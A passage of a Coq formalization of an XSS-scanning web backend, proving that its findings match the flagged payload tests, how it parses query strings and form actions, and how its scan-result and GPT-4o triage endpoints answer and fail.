            test_payload (Vulnerability.id v) sid (call_endpoint c') (call_parameter c')
              (call_payload c') (call_kind c') = Some v) (acc_vulns acc)).
  { eapply Forall_impl; [exact Hv|]. intros v (c' & Hin & Ht). exists c'.
    split; [apply in_or_app; now left|exact Ht]. }
  destruct (test_payload (acc_next acc) sid ep par payload kind) as [v|] eqn:E; simpl.
  - destruct (test_payload_some _ _ _ _ _ _ _ E) as [Hf Hid].
    unfold scan_inv; cbn [acc_vulns acc_calls acc_next].
    rewrite !length_app. simpl. split; [lia|]. split.
    + rewrite map_app, Hids. simpl. rewrite Hid, Hnext.
      rewrite Nat.add_1_r, seq_S. reflexivity.
    + split; [rewrite List.filter_app, length_app; simpl; rewrite Hf; simpl; lia|].
      split; [exact Hcalls'|].
      apply Forall_app. split; [exact Hold|]. constructor; [|constructor].
      exists c. split; [apply in_or_app; right; now left|]. simpl. now rewrite Hid.
  - pose proof (test_payload_none _ _ _ _ _ _ E) as Hf.
    unfold scan_inv; cbn [acc_vulns acc_calls acc_next].
    split; [exact Hnext|]. split; [exact Hids|].
    split; [rewrite List.filter_app, length_app; simpl; rewrite Hf; simpl; lia|].
    split; [exact Hcalls'|exact Hold].
Qed.

Lemma in_firstn_in {A} (x : A) k (l : list A) : In x (firstn k l) -> In x l.
Proof.
  intros H. rewrite <- (firstn_skipn k l). apply in_or_app. now left.
Qed.

Lemma fold_left_inv_in {A B} (I : A -> Prop) (f : A -> B -> A) (l : list B) (a : A) :
  (forall a b, In b l -> I a -> I (f a b)) -> I a -> I (fold_left f l a).
Proof.
  revert a. induction l as [|b l IH]; intros a Hf Ha; simpl; [exact Ha|].
  apply IH; [intros a' b' Hb; apply Hf; now right|]. apply Hf; [now left|exact Ha].
Qed.

Lemma perform_xss_scan_inv fetched req n :
  scan_inv (ScanRequest.id req) (select_payloads req) n
    (perform_xss_scan fetched req (scan_start n)).
Proof.
  assert (H0 : scan_inv (ScanRequest.id req) (select_payloads req) n (scan_start n)).
  { unfold scan_inv; simpl. repeat split; try constructor. lia. }
  destruct fetched as [|st page]; simpl; [exact H0|].
  unfold test_url_params.
  set (pl := select_payloads req).
  assert (Hforms : scan_inv (ScanRequest.id req) pl n
            (fold_left (test_form req (base_url_of (ScanRequest.target_url req)) pl)
               (if ScanRequest.include_forms req then page else []) (scan_start n))).
  { apply fold_left_inv; [|exact H0].
    intros acc form Hacc. unfold test_form. apply fold_left_inv; [|exact Hacc].
    intros acc' f Hacc'. destruct (existsb _ text_like_types); [|exact Hacc'].
    apply fold_left_inv_in; [|exact Hacc'].
    intros a p Hp Ha. apply scan_inv_run_test; auto. }
  destruct (ScanRequest.include_urls req && str_in "?" (ScanRequest.target_url req));
    [|exact Hforms].
  apply fold_left_inv; [|exact Hforms].
  intros acc param Hacc. destruct (str_in "=" param); [|exact Hacc].
  apply fold_left_inv_in; [|exact Hacc].
  intros a p Hp Ha. apply scan_inv_run_test; [exact (in_firstn_in _ _ _ Hp)|auto|exact Ha].
Qed.

Lemma flat_map_const_nil {A B} (l : list A) :
  flat_map (fun _ : A => @nil B) l = [].
Proof. induction l as [|a l IH]; simpl; [reflexivity|exact IH]. Qed.

Lemma flat_map_all_nil {A B} (f : A -> list B) (l : list A) :
  (forall x, f x = []) -> flat_map f l = [].
Proof. intros Hf. induction l as [|a l IH]; simpl; [reflexivity|now rewrite Hf, IH]. Qed.

(** A page of two forms, a search box and a login form, for the examples. *)
Definition login_page : list Form :=
  [mkForm (Some "/search") [mkInput (Some "q") None];
   mkForm None [mkInput (Some "user") (Some "text"); mkInput (Some "pw") (Some "password");
                mkInput (Some "remember") (Some "checkbox")]].

(** What a finding repeats of its [test_payload] call. *)
Definition finding_key (v : Vulnerability.t) : string * string * string * string :=
  (Vulnerability.endpoint v, Vulnerability.parameter v, Vulnerability.payload v,
   Vulnerability.vulnerability_type v).

Definition call_key (c : TestCall) : string * string * string * string :=
  (call_endpoint c, call_parameter c, call_payload c, "XSS_" ++ call_kind c).

(** The findings match the flagged calls, in order. *)
Definition keys_inv (acc : ScanAcc) : Prop :=
  map finding_key (acc_vulns acc) =
    map call_key (List.filter (fun c => flagged (call_payload c)) (acc_calls acc)).

Lemma run_test_keys sid ep par kind acc payload :
  keys_inv acc -> keys_inv (run_test sid ep par kind acc payload).
Proof.
  unfold keys_inv, run_test. intros H.
  destruct (test_payload _ _ _ _ _ _) as [v|] eqn:E; simpl;
    rewrite List.filter_app; simpl.
  - pose proof (test_payload_some _ _ _ _ _ _ _ E) as [Hfl _]. rewrite Hfl.
    rewrite !map_app, H. simpl. f_equal.
    unfold test_payload in E. destruct (existsb _ markers); [|discriminate].
    injection E as <-. reflexivity.
  - rewrite (test_payload_none _ _ _ _ _ _ E), app_nil_r. exact H.
Qed.

(** X1.  The findings of [perform_xss_scan] are exactly one per
    [test_payload] call whose payload contains a marker, in the order of
    the calls: each repeats its call's endpoint, parameter and payload,
    with type "XSS_" followed by the call's surface kind. *)
Theorem perform_xss_scan_findings (fetched : fetch_outcome) (req : ScanRequest.t) (n : nat) :
  map finding_key (acc_vulns (perform_xss_scan fetched req (scan_start n))) =
    map call_key (List.filter (fun c => flagged (call_payload c))
                    (acc_calls (perform_xss_scan fetched req (scan_start n)))).
Proof.
  change (keys_inv (perform_xss_scan fetched req (scan_start n))).
  destruct fetched as [|st page]; simpl; [reflexivity|].
  unfold test_url_params.
  assert (Hforms : keys_inv (fold_left (test_form req (base_url_of (ScanRequest.target_url req))
                      (select_payloads req)) (if ScanRequest.include_forms req then page else [])
                      (scan_start n))).
  { apply fold_left_inv; [|reflexivity].
    intros acc form Hacc. unfold test_form. apply fold_left_inv; [|exact Hacc].
    intros acc' f Hacc'. destruct (existsb _ text_like_types); [|exact Hacc'].
    apply fold_left_inv; [|exact Hacc']. intros. now apply run_test_keys. }
  destruct (ScanRequest.include_urls req && str_in "?" (ScanRequest.target_url req));
    [|exact Hforms].
  apply fold_left_inv; [|exact Hforms].
  intros acc param Hacc. destruct (str_in "=" param); [|exact Hacc].
  apply fold_left_inv; [|exact Hacc]. intros. now apply run_test_keys.
Qed.

(** X2.  Every finding of [perform_xss_scan] belongs to the requested
    scan, is of type "XSS_form_input" or "XSS_url_parameter", uses one of
    the selected payloads, has no AI text yet, is not marked as a false
    positive, and repeats the endpoint, parameter and payload of one of
    the [test_payload] calls made. *)
Theorem perform_xss_scan_finding_fields (fetched : fetch_outcome) (req : ScanRequest.t) (n : nat)
    (v : Vulnerability.t) :
  In v (acc_vulns (perform_xss_scan fetched req (scan_start n))) ->
  Vulnerability.scan_id v = ScanRequest.id req /\
  (Vulnerability.vulnerability_type v = "XSS_form_input" \/
   Vulnerability.vulnerability_type v = "XSS_url_parameter") /\
  In (Vulnerability.payload v) (select_payloads req) /\
  Vulnerability.ai_summary v = None /\ Vulnerability.remediation_suggestion v = None /\
  Vulnerability.false_positive v = false /\
  exists c, In c (acc_calls (perform_xss_scan fetched req (scan_start n))) /\
    Vulnerability.endpoint v = call_endpoint c /\ Vulnerability.parameter v = call_parameter c /\
    Vulnerability.payload v = call_payload c.
Proof.
  intros Hin.
  destruct (perform_xss_scan_inv fetched req n) as (_ & _ & _ & Hcalls & Hv).
  destruct (proj1 (List.Forall_forall _ _) Hv v Hin) as (c & Hc & Ht).
  destruct (proj1 (List.Forall_forall _ _) Hcalls c Hc) as [Hpl Hk].
  unfold test_payload in Ht. destruct (existsb _ markers); [|discriminate].
  injection Ht as <-. simpl.
  split; [reflexivity|]. split; [destruct Hk as [-> | ->]; [left|right]; reflexivity|].
  split; [exact Hpl|]. split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  exists c. auto.
Qed.

Lemma perform_xss_scan_finding_fields_witness :
  Vulnerability.vulnerability_type
    (nth 0 (acc_vulns (perform_xss_scan (FetchResponse 200 login_page) demo_req (scan_start 0)))
       demo_vuln) = "XSS_form_input" /\
  Vulnerability.scan_id
    (nth 0 (acc_vulns (perform_xss_scan (FetchResponse 200 login_page) demo_req (scan_start 0)))
       demo_vuln) = "scan-1".
Proof.
  split; [vm_compute; reflexivity|].
  apply (perform_xss_scan_finding_fields (FetchResponse 200 login_page) demo_req 0).
  apply nth_In. vm_compute. lia.
Defined.

(** X3.  A scan type other than "quick", "comprehensive" and "custom"
    (the comparison is case-sensitive), or a "custom" scan without
    custom payloads, tests nothing: no [test_payload] call is made and
    no finding is produced, whatever the page. *)
Theorem unknown_scan_type_tests_nothing (fetched : fetch_outcome) (req : ScanRequest.t) (n : nat) :
  ScanRequest.scan_type req <> "quick" ->
  ScanRequest.scan_type req <> "comprehensive" ->
  (ScanRequest.scan_type req = "custom" ->
   ScanRequest.custom_payloads req = None \/ ScanRequest.custom_payloads req = Some []) ->
  acc_calls (perform_xss_scan fetched req (scan_start n)) = [] /\
  acc_vulns (perform_xss_scan fetched req (scan_start n)) = [] /\
  acc_next (perform_xss_scan fetched req (scan_start n)) = n.
Proof.
  intros Hq Hc Hcu.
  assert (Hpl : select_payloads req = []).
  { unfold select_payloads.
    apply String.eqb_neq in Hq, Hc. rewrite Hq, Hc.
    destruct (String.eqb_spec (ScanRequest.scan_type req) "custom") as [Hcus|]; [|reflexivity].
    destruct (Hcu Hcus) as [-> | ->]; reflexivity. }
  destruct (perform_xss_scan_inv fetched req n) as (Hn & _ & Hlen & _ & _).
  assert (Hcalls : acc_calls (perform_xss_scan fetched req (scan_start n)) = []).
  { destruct fetched as [|st page]; [reflexivity|]. simpl.
    rewrite test_url_params_calls, test_forms_calls, Hpl. simpl.
    rewrite flat_map_const_nil, app_nil_r.
    apply flat_map_all_nil. intros form. apply flat_map_const_nil. }
  rewrite Hcalls in Hlen. simpl in Hlen.
  destruct (acc_vulns (perform_xss_scan fetched req (scan_start n))) eqn:Ev; [|discriminate].
  split; [exact Hcalls|]. split; [reflexivity|]. rewrite Hn. simpl. lia.
Qed.

Lemma unknown_scan_type_tests_nothing_witness :
  acc_calls (perform_xss_scan (FetchResponse 200 login_page)
               (ScanRequest.mk "scan-2" "https://x.test/p?q=1" "Comprehensive" None true true 3)
               (scan_start 0)) = [] /\
  acc_vulns (perform_xss_scan (FetchResponse 200 login_page)
               (ScanRequest.mk "scan-2" "https://x.test/p?q=1" "Comprehensive" None true true 3)
               (scan_start 0)) = [] /\
  acc_next (perform_xss_scan (FetchResponse 200 login_page)
               (ScanRequest.mk "scan-2" "https://x.test/p?q=1" "Comprehensive" None true true 3)
               (scan_start 0)) = 0%nat.
Proof.
  apply unknown_scan_type_tests_nothing; simpl; [discriminate|discriminate|discriminate].
Defined.

(** ** Query strings and form actions *)

Lemma split_on_no_sep c a :
  all_chars (fun d => negb (Ascii.eqb c d)) a = true -> split_on c a = [a].
Proof.
  induction a as [|d a IH]; simpl; [reflexivity|].
  intros H. apply andb_true_iff in H as [Hd Ha]. apply negb_true_iff in Hd.
  rewrite Hd, (IH Ha). reflexivity.
Qed.

Lemma split_on_app_sep c a b :
  all_chars (fun d => negb (Ascii.eqb c d)) a = true ->
  split_on c (a ++ String c b) = a :: split_on c b.
Proof.
  induction a as [|d a IH]; simpl.
  - intros _. rewrite Ascii.eqb_refl. reflexivity.
  - intros H. apply andb_true_iff in H as [Hd Ha]. apply negb_true_iff in Hd.
    rewrite Hd, (IH Ha). reflexivity.
Qed.

Lemma string_append_nil_r (s : string) : s ++ "" = s.
Proof. induction s as [|c s IH]; [reflexivity|]. change (String c (s ++ "") = String c s). now rewrite IH. Qed.

Lemma all_chars_impl (f g : ascii -> bool) s :
  (forall c, f c = true -> g c = true) -> all_chars f s = true -> all_chars g s = true.
Proof.
  intros Hfg. induction s as [|c s IH]; simpl; [reflexivity|].
  intros H. apply andb_true_iff in H as [Hc Hs]. now rewrite (Hfg c Hc), (IH Hs).
Qed.

Lemma break_at_app_stop (stop : ascii -> bool) a c b :
  all_chars (fun d => negb (stop d)) a = true -> stop c = true ->
  break_at stop (a ++ String c b) = (a, String c b).
Proof.
  intros Ha Hc. induction a as [|d a IH]; simpl; [now rewrite Hc|].
  simpl in Ha. apply andb_true_iff in Ha as [Hd Ha]. apply negb_true_iff in Hd.
  rewrite Hd, (IH Ha). reflexivity.
Qed.

Lemma break_at_fst_app (stop : ascii -> bool) a rest :
  all_chars (fun d => negb (stop d)) a = true ->
  (rest = "" \/ exists c r, rest = String c r /\ stop c = true) ->
  fst (break_at stop (a ++ rest)) = a.
Proof.
  intros Ha Hrest. induction a as [|d a IH]; simpl.
  - destruct Hrest as [-> | (c & r & -> & Hc)]; simpl; [reflexivity|now rewrite Hc].
  - simpl in Ha. apply andb_true_iff in Ha as [Hd Ha]. apply negb_true_iff in Hd.
    rewrite Hd. specialize (IH Ha). destruct (break_at stop (a ++ rest)) as [x y].
    simpl in *. now rewrite IH.
Qed.

Lemma substring_0_long (s : string) m : (String.length s <= m)%nat -> substring 0 m s = s.
Proof.
  revert m. induction s as [|c s IH]; intros m Hm; simpl.
  - destruct m; reflexivity.
  - destruct m as [|m]; simpl in Hm; [lia|]. rewrite IH; [reflexivity|lia].
Qed.

Lemma scheme_char_not_colon c : is_scheme_char c = true -> Ascii.eqb c ":" = false.
Proof.
  intros H. destruct (Ascii.eqb_spec c ":") as [->|]; [discriminate H|reflexivity].
Qed.

Lemma alpha_not_c0 c : is_ascii_alpha c = true -> is_c0_control_or_space c = false.
Proof. destruct c as [[] [] [] [] [] [] [] []]; vm_compute; congruence. Qed.

Lemma scheme_char_not_unsafe c : is_scheme_char c = true -> is_unsafe_url_byte c = false.
Proof. destruct c as [[] [] [] [] [] [] [] []]; vm_compute; congruence. Qed.

Lemma all_chars_app f a b : all_chars f (a ++ b) = (all_chars f a && all_chars f b)%bool.
Proof. induction a as [|c a IH]; simpl; [reflexivity|]. rewrite IH. apply andb_assoc. Qed.

Lemma remove_chars_none f s : all_chars (fun c => negb (f c)) s = true -> remove_chars f s = s.
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|]. intros H.
  apply andb_true_iff in H as [Hc H]. apply negb_true_iff in Hc. rewrite Hc, IH by exact H.
  reflexivity.
Qed.

(** [urlparse] on ["scheme://host" ++ rest], where the scheme starts
    with a letter, [rest] is empty or starts a path, query or fragment,
    and no tab, CR or LF occurs. *)
Lemma base_url_of_split c0 s' h rest :
  is_ascii_alpha c0 = true -> all_chars is_scheme_char (String c0 s') = true ->
  all_chars (fun c => negb (Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#")) h = true ->
  (rest = "" \/ exists c r, rest = String c r /\
     (Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#") = true) ->
  all_chars (fun c => negb (is_unsafe_url_byte c)) (h ++ rest) = true ->
  base_url_of (String c0 s' ++ "://" ++ h ++ rest) = lower (String c0 s') ++ "://" ++ h.
Proof.
  intros Ha Hs Hh Hrest Hu. unfold base_url_of, urlparse_scheme_netloc.
  assert (Hl : lstrip is_c0_control_or_space (String c0 s' ++ "://" ++ h ++ rest) =
               String c0 s' ++ "://" ++ h ++ rest).
  { change (String c0 s' ++ "://" ++ h ++ rest) with (String c0 (s' ++ "://" ++ h ++ rest)).
    simpl. now rewrite (alpha_not_c0 c0 Ha). }
  rewrite Hl, remove_chars_none.
  2:{ rewrite all_chars_app. apply andb_true_iff. split.
      - apply (all_chars_impl is_scheme_char); [|exact Hs].
        intros c Hc. now rewrite scheme_char_not_unsafe.
      - exact Hu. }
  change ("://" ++ h ++ rest) with (String ":" ("//" ++ h ++ rest)).
  rewrite (break_at_app_stop (fun c => Ascii.eqb c ":") (String c0 s') ":" ("//" ++ h ++ rest)); [|
    apply (all_chars_impl is_scheme_char); [|exact Hs];
    intros c Hc; now rewrite scheme_char_not_colon|reflexivity].
  cbv iota beta. rewrite Ha, Hs. cbn [andb startswith Ascii.eqb Bool.eqb append].
  change ("" ++ h ++ rest) with (h ++ rest).
  simpl. rewrite substring_0_long by lia.
  change ("" ++ h ++ rest) with (h ++ rest).
  rewrite (break_at_fst_app _ h rest Hh Hrest). reflexivity.
Qed.

(** X4.  Only the text between the first and the second "?" of the
    target URL is read as the query string: parameters after a second
    "?" are never split off, so they are never tested on their own. *)
Theorem query_params_first_query (pre q rest : string) :
  all_chars (fun d => negb (Ascii.eqb "?" d)) pre = true ->
  all_chars (fun d => negb (Ascii.eqb "?" d)) q = true ->
  (rest = "" \/ exists r, rest = String "?" r) ->
  query_params (pre ++ String "?" (q ++ rest)) = split_on "&" q.
Proof.
  intros Hpre Hq Hrest. unfold query_params.
  rewrite (split_on_app_sep "?" pre (q ++ rest) Hpre). simpl.
  destruct Hrest as [-> | [r ->]].
  - rewrite string_append_nil_r, (split_on_no_sep "?" q Hq). reflexivity.
  - rewrite (split_on_app_sep "?" q r Hq). reflexivity.
Qed.

Lemma query_params_first_query_witness :
  query_params ("https://x.test/p" ++ String "?" ("a=1" ++ "?b=2")) = ["a=1"].
Proof.
  rewrite (query_params_first_query "https://x.test/p" "a=1" "?b=2"); [reflexivity|reflexivity|reflexivity|].
  right. now exists "b=2".
Defined.

(** X5.  On a target ["scheme://host" ++ rest] whose scheme starts
    with a letter, whose host has no "/", "?" or "#", whose rest is empty
    or starts a path, query or fragment, and with no tab, CR or LF in
    host or rest, a form whose action does not start with "http" is
    tested at the lowercased scheme, "://", the host, then the action (an
    absent action counts as ""); the target's path and query are
    dropped. *)
Theorem resolve_relative_action (c0 : ascii) (s' h rest a : string) (form : Form) :
  is_ascii_alpha c0 = true -> all_chars is_scheme_char (String c0 s') = true ->
  all_chars (fun c => negb (Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#")) h = true ->
  (rest = "" \/ exists c r, rest = String c r /\
     (Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#") = true) ->
  all_chars (fun c => negb (is_unsafe_url_byte c)) (h ++ rest) = true ->
  default "" (form_action form) = a -> startswith a "http" = false ->
  resolve_action (base_url_of (String c0 s' ++ "://" ++ h ++ rest)) form =
    (lower (String c0 s') ++ "://" ++ h) ++ a.
Proof.
  intros Hal Hs Hh Hrest Hu Ha Hhttp. unfold resolve_action.
  rewrite Ha, Hhttp, (base_url_of_split c0 s' h rest Hal Hs Hh Hrest Hu). reflexivity.
Qed.

Lemma resolve_relative_action_witness :
  resolve_action (base_url_of ("HTTPS" ++ "://" ++ "x.test" ++ "/p?q=1"))
    (mkForm (Some "/search") []) = "https://x.test/search".
Proof.
  rewrite (resolve_relative_action "H" "TTPS" "x.test" "/p?q=1" "/search");
    [reflexivity|reflexivity|reflexivity|reflexivity| |reflexivity|reflexivity|reflexivity].
  right. exists "/"%char, "p?q=1". split; reflexivity.
Defined.

(** With a tab inside the host, [urlsplit] deletes it before splitting. *)
Lemma base_url_of_tab_deleted :
  base_url_of ("http://127.0.0." ++ String "009"%char "1:18765/p") = "http://127.0.0.1:18765".
Proof. vm_compute. reflexivity. Qed.

(* ================================================================= *)
(** * The read endpoints and the AI endpoints *)

(** What a handler raises: an [HTTPException], or any other exception
    of the backend (which FastAPI turns into a 500 answer). *)
Inductive api_exn :=
| HTTPException (status_code : Z) (detail : string)
| Internal (e : exn).

(** The handlers' monad: [M] with [HTTPException] added. *)
Definition AM (A : Type) : Type := World -> (api_exn + A) * World.

Definition aret {A} (x : A) : AM A := fun w => (inr x, w).

Definition abind {A B} (m : AM A) (k : A -> AM B) : AM B :=
  fun w => match m w with
           | (inl e, w') => (inl e, w')
           | (inr x, w') => k x w'
           end.

Notation "'let?' x := m 'in' k" := (abind m (fun x => k))
  (at level 200, x name, m at level 100, k at level 200).

Definition araise {A} (e : api_exn) : AM A := fun w => (inl e, w).

(** [try: m] [except Exception: h]; [HTTPException] is an [Exception]. *)
Definition atry {A} (m : AM A) (h : api_exn -> AM A) : AM A :=
  fun w => match m w with
           | (inl e, w') => h e w'
           | r => r
           end.

(** A backend operation inside a handler. *)
Definition alift {A} (m : M A) : AM A :=
  fun w => match m w with
           | (inl e, w') => (inl (Internal e), w')
           | (inr x, w') => (inr x, w')
           end.

Section Api.
Variable env : Env.

(** [await db.scan_results.find_one({"scan_id": scan_id})]: the first
    matching document in natural order. *)
Definition find_one_result (scan_id : string) : M (option ScanResult.t) :=
  db_op env (fun w => (List.find (fun r => String.eqb (ScanResult.scan_id r) scan_id)
                         (w_results w), w)).

(** [GET /api/scans/{scan_id}/result] *)
Definition get_scan_result (scan_id : string) : AM ScanResult.t :=
  let? result := alift (find_one_result scan_id) in
  match result with
  | None => araise (HTTPException 404 "Scan result not found")
  | Some r => aret r
  end.

(** [await db.vulnerabilities.find_one({"id": vuln_id})] *)
Definition find_one_vuln (vuln_id : nat) : M (option Vulnerability.t) :=
  db_op env (fun w => (List.find (fun v => Nat.eqb (Vulnerability.id v) vuln_id) (w_vulns w), w)).

(** The loop [for vuln_id in request.vulnerability_ids: ...]. *)
Fixpoint collect_vulns (vuln_ids : list nat) (vulnerabilities : list Vulnerability.t)
    : AM (list Vulnerability.t) :=
  match vuln_ids with
  | [] => aret vulnerabilities
  | vuln_id :: rest =>
      let? vuln := alift (find_one_vuln vuln_id) in
      collect_vulns rest (match vuln with
                          | Some v => vulnerabilities ++ [v]
                          | None => vulnerabilities
                          end)%list
  end.

End Api.

Record AITriageRequest := mkTriageRequest {
  vulnerability_ids : list nat;
  context : option string
}.

(** The JSON answer of [POST /api/ai/triage]. *)
Record TriageResponse := mkTriageResponse {
  triage_analysis : string;
  vulnerability_count : nat;
  session_id : nat
}.

(** [POST /api/ai/triage].  [triage_chat u] is the answer of the GPT-4o
    session [triage_{u}] ([None] when the call raises); the prompt is
    determined by the session's findings and context.  The session id
    returned is a second [uuid4()]. *)
Definition ai_triage_vulnerabilities (env : Env) (triage_chat : nat -> option string)
    (request : AITriageRequest) : AM TriageResponse :=
  atry
    (let? vulnerabilities := collect_vulns env (vulnerability_ids request) [] in
     match vulnerabilities with
     | [] => araise (HTTPException 404 "No vulnerabilities found")
     | _ :: _ =>
         let? chat_session := alift fresh_uuid in
         let? triage_response :=
           match triage_chat chat_session with
           | Some s => aret s
           | None => araise (Internal OracleError)
           end in
         let? response_session := alift fresh_uuid in
         aret (mkTriageResponse triage_response (length vulnerabilities) response_session)
     end)
    (fun _ => araise (HTTPException 500 "AI triage analysis failed")).

(** The records of [vs] that the lookups of [vuln_ids] find, one per
    requested id that is stored (a repeated id is found again). *)
Definition found_vulns (vs : list Vulnerability.t) (vuln_ids : list nat) : list Vulnerability.t :=
  flat_map (fun vid => option_to_list (List.find (fun v => Nat.eqb (Vulnerability.id v) vid) vs))
    vuln_ids.

(** The state after the demo scan: six findings, ids 1 to 6. *)
Definition scanned_world : World := snd (serve demo_env [demo_req] empty_world).

Lemma find_scan_id_none sid rs :
  Forall (fun r => ScanResult.scan_id r <> sid) rs ->
  List.find (fun r => String.eqb (ScanResult.scan_id r) sid) rs = None.
Proof.
  induction 1 as [|r rs Hr _ IH]; simpl; [reflexivity|].
  apply String.eqb_neq in Hr. now rewrite Hr.
Qed.

Lemma find_scan_id_fresh_app sid rs r :
  Forall (fun r => ScanResult.scan_id r <> sid) rs ->
  List.find (fun r => String.eqb (ScanResult.scan_id r) sid) (rs ++ [r])%list =
  List.find (fun r => String.eqb (ScanResult.scan_id r) sid) [r].
Proof.
  induction 1 as [|r0 rs Hr _ IH]; simpl; [reflexivity|].
  apply String.eqb_neq in Hr. now rewrite Hr.
Qed.

Lemma collect_vulns_nf env ids acc w :
  (forall n, env_db_fails env n = false) ->
  exists w', collect_vulns env ids acc w = (inr (acc ++ found_vulns (w_vulns w) ids)%list, w') /\
    w_vulns w' = w_vulns w /\ w_fresh w' = w_fresh w.
Proof.
  intros Hnf. revert acc w. induction ids as [|vid ids IH]; intros acc w; simpl.
  - exists w. unfold aret. rewrite app_nil_r. auto.
  - unfold abind, alift, find_one_vuln, db_op. rewrite Hnf. simpl.
    destruct (IH (match List.find (fun v => Nat.eqb (Vulnerability.id v) vid) (w_vulns w) with
                  | Some v => acc ++ [v] | None => acc end)%list
                 (set_dbops w (S (w_dbops w)))) as (w' & Hc & Hv & Hf).
    exists w'. rewrite Hc. simpl in Hv, Hf. split; [|split; assumption].
    unfold found_vulns. simpl.
    destruct (List.find _ (w_vulns w)); simpl; [now rewrite <- app_assoc|reflexivity].
Qed.

Lemma find_vuln_id_none vid vs :
  Forall (fun v => Vulnerability.id v <> vid) vs ->
  List.find (fun v => Nat.eqb (Vulnerability.id v) vid) vs = None.
Proof.
  induction 1 as [|v vs Hv _ IH]; simpl; [reflexivity|].
  apply Nat.eqb_neq in Hv. now rewrite Hv.
Qed.

Lemma found_vulns_none vs ids :
  Forall (fun vid => Forall (fun v => Vulnerability.id v <> vid) vs) ids ->
  found_vulns vs ids = [].
Proof.
  induction 1 as [|vid ids Hvid _ IH]; [reflexivity|]. unfold found_vulns in *. simpl.
  rewrite IH, (find_vuln_id_none vid vs Hvid). reflexivity.
Qed.

(** X6.  Asking for the result of a scan id that has no document in
    [scan_results] answers 404 "Scan result not found". *)
Theorem get_scan_result_missing (env : Env) (sid : string) (w : World) :
  env_db_fails env (w_dbops w) = false ->
  Forall (fun r => ScanResult.scan_id r <> sid) (w_results w) ->
  fst (get_scan_result env sid w) = inl (HTTPException 404 "Scan result not found").
Proof.
  intros Hdb Hnone. unfold get_scan_result, abind, alift, find_one_result, db_op.
  rewrite Hdb. simpl. now rewrite (find_scan_id_none sid _ Hnone).
Qed.

Lemma get_scan_result_missing_witness :
  fst (get_scan_result demo_env "invalid-scan-id" scanned_world) =
    inl (HTTPException 404 "Scan result not found").
Proof.
  apply get_scan_result_missing; [reflexivity|].
  vm_compute. repeat constructor; discriminate.
Defined.

(** X7.  After a submission with a new scan id and no storage failure
    (and an executive summary available when there are findings), the
    result endpoint answers with the scan's document, completed, with
    the number of findings of the scan and a recorded duration. *)
Theorem get_scan_result_after_submit (env : Env) (req : ScanRequest.t) (w : World) :
  (forall n, env_db_fails env n = false) ->
  fresh_sid (ScanRequest.id req) (w_results w) ->
  (forall n,
     acc_vulns (perform_xss_scan (env_fetch env (ScanRequest.target_url req)) req (scan_start n))
       <> [] ->
     is_Some (env_oracle env (Executive (ScanRequest.id req)))) ->
  exists r, fst (get_scan_result env (ScanRequest.id req) (snd (submit env req w))) = inr r /\
    ScanResult.scan_id r = ScanRequest.id req /\ completed_with env req r.
Proof.
  intros Hnf Hf Hex.
  destruct (submit_nf_run env req w Hnf Hf Hex) as [_ (r & H & Hrs & _ & Hsid & _ & Hc)].
  exists r. split; [|split; assumption].
  unfold get_scan_result, abind, alift, find_one_result, db_op. rewrite Hnf. simpl.
  rewrite Hrs, (find_scan_id_fresh_app _ _ r Hf). simpl.
  rewrite Hsid, String.eqb_refl. reflexivity.
Qed.

Lemma get_scan_result_after_submit_witness :
  exists r, fst (get_scan_result demo_env "scan-1" (snd (submit demo_env demo_req empty_world))) =
      inr r /\ ScanResult.scan_id r = "scan-1" /\ completed_with demo_env demo_req r.
Proof.
  apply (get_scan_result_after_submit demo_env demo_req empty_world).
  - intros n. reflexivity.
  - constructor.
  - intros n _. eexists. reflexivity.
Defined.

(** X8.  The triage endpoint only ever fails with 500 "AI triage
    analysis failed": its own 404 "No vulnerabilities found" is raised
    inside the [try] and caught.  In particular, when none of the
    requested ids is stored (and storage works), it answers 500. *)
Theorem ai_triage_errors_are_500 (env : Env) (chat : nat -> option string)
    (request : AITriageRequest) (w : World) :
  (forall e, fst (ai_triage_vulnerabilities env chat request w) = inl e ->
     e = HTTPException 500 "AI triage analysis failed") /\
  ((forall n, env_db_fails env n = false) ->
   Forall (fun vid => Forall (fun v => Vulnerability.id v <> vid) (w_vulns w))
     (vulnerability_ids request) ->
   fst (ai_triage_vulnerabilities env chat request w) =
     inl (HTTPException 500 "AI triage analysis failed")).
Proof.
  split.
  - intros e. unfold ai_triage_vulnerabilities, atry.
    destruct (abind _ _ w) as [[e0|x] w']; simpl; [|discriminate].
    intros H. injection H as <-. reflexivity.
  - intros Hnf Hnone. unfold ai_triage_vulnerabilities, atry, abind.
    destruct (collect_vulns_nf env (vulnerability_ids request) [] w Hnf) as (w' & Hc & _ & _).
    rewrite Hc, (found_vulns_none _ _ Hnone). reflexivity.
Qed.

Lemma ai_triage_errors_are_500_witness :
  fst (ai_triage_vulnerabilities demo_env (fun _ => Some "ranking")
         (mkTriageRequest [42%nat] None) scanned_world) =
    inl (HTTPException 500 "AI triage analysis failed").
Proof.
  apply (proj2 (ai_triage_errors_are_500 demo_env (fun _ => Some "ranking")
                  (mkTriageRequest [42%nat] None) scanned_world)).
  - intros n. reflexivity.
  - vm_compute. repeat constructor; discriminate.
Defined.

(** X9.  With working storage, when some requested ids are stored and
    the GPT-4o call answers, the triage answer carries that text, counts
    one finding per requested id that is stored (repeated ids are
    counted again), and returns a session id that is not the one of the
    GPT-4o session (a second uuid). *)
Theorem ai_triage_success (env : Env) (chat : nat -> option string)
    (request : AITriageRequest) (w : World) (text : string) :
  (forall n, env_db_fails env n = false) ->
  found_vulns (w_vulns w) (vulnerability_ids request) <> [] ->
  chat (w_fresh w) = Some text ->
  fst (ai_triage_vulnerabilities env chat request w) =
    inr (mkTriageResponse text (length (found_vulns (w_vulns w) (vulnerability_ids request)))
           (S (w_fresh w))) /\
  S (w_fresh w) <> w_fresh w.
Proof.
  intros Hnf Hne Hchat. split; [|lia].
  unfold ai_triage_vulnerabilities, atry, abind.
  destruct (collect_vulns_nf env (vulnerability_ids request) [] w Hnf) as (w' & Hc & Hv & Hf).
  rewrite Hc. simpl.
  destruct (found_vulns (w_vulns w) (vulnerability_ids request)) as [|v0 vs] eqn:E;
    [contradiction|].
  unfold alift, fresh_uuid. simpl. rewrite Hf, Hchat. reflexivity.
Qed.

Lemma ai_triage_success_witness :
